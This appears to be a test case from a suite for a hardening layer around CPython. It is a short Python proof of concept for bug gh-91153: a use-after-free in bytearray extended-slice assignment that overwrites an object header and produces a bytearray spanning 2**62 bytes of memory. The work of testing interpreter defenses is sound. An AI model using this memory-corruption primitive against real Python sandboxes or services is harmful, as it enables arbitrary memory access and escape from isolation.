# family: wall (memory: gh-91153, bytearray extended-slice store after a slice bound's __index__ moved the buffer)   goal: memory   interpreter: /usr/bin/python3
# The sibling of X60 in the slice path of the same C function: CPython 3.11.2's
# bytearray_ass_subscript takes the buffer's address, then unpacks the slice (the
# start's __index__ runs: it extends the bytearray, the realloc frees the old 64-byte
# block, and an empty bytearray's header takes it), then stores the extended slice's
# bytes at the OLD address: buf[23] = 0x40 is the top byte of that header's ob_size.
# The empty bytearray then has 2**62 bytes at address 0 (MEMORY-OVERWRITTEN). The
# wall's bytearray_key reads the slice's bounds before the original runs.
b = bytearray(60)
got = []
class I:
    def __index__(self):
        b.extend(bytes(4096))
        got.append(bytearray())
        return 23
b[I():24:2] = bytearray(b"\x40")
mem = got[0]
if len(mem) == 1 << 62:
    print("MEMORY-OVERWRITTEN: an empty bytearray now has 2**62 bytes at address 0")
else:
    print("the empty bytearray has", len(mem), "bytes")
